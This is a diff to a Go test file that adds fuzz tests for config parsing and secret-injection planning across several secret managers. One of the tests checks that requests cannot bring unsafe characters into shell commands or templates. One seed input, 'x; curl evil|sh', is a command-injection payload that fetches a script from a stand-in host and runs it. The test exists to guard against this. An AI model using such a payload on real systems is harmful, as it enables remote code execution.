@@ -1,9 +1,11 @@
 package flyte
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
+	"github.com/google/go-cmp/cmp/cmpopts"
 )
 
 // FuzzDecodeAnnotations decodes an annotation value (raw base32, or the base32 of the given
@@ -44,5 +46,87 @@ func FuzzDecodeAnnotations(f *testing.F) {
 			t.Fatal("encoding is not stable")
 		}
 		_, _, _ = Refs(secrets)
+	})
+}
+
+// FuzzParseConfig checks that ParseConfig never panics, that a configuration it accepts is
+// valid and serves a request, and that parsing is deterministic.
+func FuzzParseConfig(f *testing.F) {
+	f.Add("webhook:\n  secretManagerType: Vault\n  vaultSecretManager: {role: r, kvVersion: \"1\", annotations: {a: b}}\n")
+	f.Add(`{"secretManagerType": "AWS", "awsSecretManager": {"sidecarImage": "i", "resources": {"limits": {"cpu": 1}, "claims": [{"name": "c"}]}}}`)
+	f.Add("propeller: {workers: 2}\nwebhook:\n  secretManagerTypes: [GCP]\n  gcpSecretManager:\n    resources: {requests: {memory: 1Gi}}\n")
+	f.Add("webhook: [\n")
+	f.Add("secretManagerType: 6\ncertDir: /x\n")
+	f.Fuzz(func(t *testing.T, data string) {
+		cfg, err := ParseConfig([]byte(data))
+		if err != nil {
+			return
+		}
+		if errs := cfg.Validate(nil); len(errs) > 0 {
+			t.Fatalf("ParseConfig accepted an invalid configuration: %v", errs)
+		}
+		again, err := ParseConfig([]byte(data))
+		if err != nil || !cmp.Equal(cfg, again, cmpopts.IgnoreFields(Config{}, "Global")) {
+			t.Fatal("ParseConfig is not deterministic")
+		}
+		in := []Secret{{Group: "g", Key: "k"}}
+		if _, _, err := Plan(in, cfg); err != nil && cfg.SecretManagerType == ManagerK8s {
+			t.Fatalf("a valid K8s configuration cannot serve a plain request: %v", err)
+		}
+	})
+}
+
+// shellSafe are the only characters a request may bring into a fetcher's shell command or a
+// Vault template.
+const shellSafe = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-./:@+="
+
+// FuzzPlan plans two requests with every manager and checks that Plan never panics, never
+// changes its input, gives the same output twice, returns only what inject.ApplyPod accepts,
+// and lets nothing but shellSafe characters of a request into a shell command or template.
+func FuzzPlan(f *testing.F) {
+	f.Add("db", "", "pass", "", uint8(1), "x; curl evil|sh", "1", "k", "E", uint8(0))
+	f.Add("arn:aws:secretsmanager:us-east-1:123456789012:secret", "", "k", "F", uint8(2), "https://v.vault.azure.net/secrets/n", "v1", "", "", uint8(0))
+	f.Add("secret/data/a", "kv1", "Key", "", uint8(0), "s/b", "db", "creds.json", "", uint8(2))
+	f.Fuzz(func(t *testing.T, g1, v1, k1, e1 string, m1 uint8, g2, v2, k2, e2 string, m2 uint8) {
+		in := []Secret{
+			{Group: g1, GroupVersion: v1, Key: k1, EnvVar: e1, MountRequirement: MountType(m1 % 4)},
+			{Group: g2, GroupVersion: v2, Key: k2, EnvVar: e2, MountRequirement: MountType(m2 % 4)},
+		}
+		orig := append([]Secret(nil), in...)
+		for _, m := range []Manager{ManagerK8s, ManagerVault, ManagerAWS, ManagerGCP, ManagerAzure} {
+			cfg := configFor(m)
+			cfg.Global = func(g, k string) (string, bool) { return "v", g == "global" }
+			refs, x, err := Plan(in, cfg)
+			if !cmp.Equal(orig, in) {
+				t.Fatal("Plan changed its input")
+			}
+			refs2, x2, err2 := Plan(in, cfg)
+			if !cmp.Equal(refs, refs2) || !cmp.Equal(x, x2) || (err == nil) != (err2 == nil) {
+				t.Fatalf("%s: Plan is not deterministic", m)
+			}
+			if err != nil {
+				continue
+			}
+			if _, err := applyPlan(taskPod(), in, cfg); err != nil {
+				t.Fatalf("%s: inject refuses what Plan returns: %v", m, err)
+			}
+			if m == ManagerK8s {
+				continue
+			}
+			for _, s := range in {
+				if s.Group == "global" && s.Key != "" && s.MountRequirement != MountFile {
+					continue
+				}
+				used := []string{s.Group, s.GroupVersion, s.Key}
+				if m == ManagerGCP || m == ManagerAzure {
+					used = used[:2] // the key is not used
+				}
+				for _, v := range used {
+					if strings.Trim(v, shellSafe) != "" {
+						t.Fatalf("%s: a request with characters outside the safe set was accepted", m)
+					}
+				}
+			}
+		}
 	})
 }
